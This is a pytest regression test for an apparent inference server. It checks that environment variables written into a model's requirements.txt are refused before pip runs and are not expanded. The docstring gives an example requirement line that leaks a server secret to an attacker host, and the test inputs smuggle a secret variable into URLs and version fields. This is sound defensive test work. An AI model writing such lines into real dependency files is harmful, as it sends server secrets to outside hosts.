"""Issue 32, item 8: ``${VAR}`` in a model's ``requirements.txt`` is not filled in from the
server's environment. Before the fix naiad (and pip after it) expanded it: a requirement
``pkg @ https://attacker.example/?k=${SECRET}`` sent the server's secret to a remote host,
and the load error showed it. Now such a file is refused before pip runs, naming the
variable and not its value."""

from __future__ import annotations

from pathlib import Path

import pytest
from tritonclient.grpc.model_config_pb2 import ModelConfig

from naiad.errors import InferenceServerError, Status

environment = pytest.importorskip("naiad_backend_python.environment",
                                  reason="naiad-backend-python is not installed")


@pytest.mark.parametrize("line", [
    "pkg @ https://example.invalid/simple?token=${NAIAD_TEST_SECRET}",
    "-i https://${NAIAD_TEST_SECRET}@example.invalid/simple",
    "six==${NAIAD_TEST_SECRET}",
])
def test_a_variable_in_requirements_is_refused_unexpanded(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, line: str) -> None:
    monkeypatch.setenv("NAIAD_TEST_SECRET", "s3cr3t-value")
    model_dir = tmp_path / "repository" / "m"
    (model_dir / "1").mkdir(parents=True)
    (model_dir / "config.pbtxt").write_text('name: "m"\nbackend: "python"\n')
    (model_dir / "requirements.txt").write_text(f"numpy\n{line}\n")
    settings = environment.EnvironmentSettings(tmp_path / "cache")
    with pytest.raises(InferenceServerError) as failure:
        environment.worker_environment("m", model_dir, ModelConfig(name="m", backend="python"),
                                       settings)
    assert failure.value.status is Status.UNAVAILABLE
    assert "${NAIAD_TEST_SECRET}" in failure.value.message
    assert "s3cr3t-value" not in failure.value.message
    assert not settings.cache_dir.exists()  # refused before pip ran
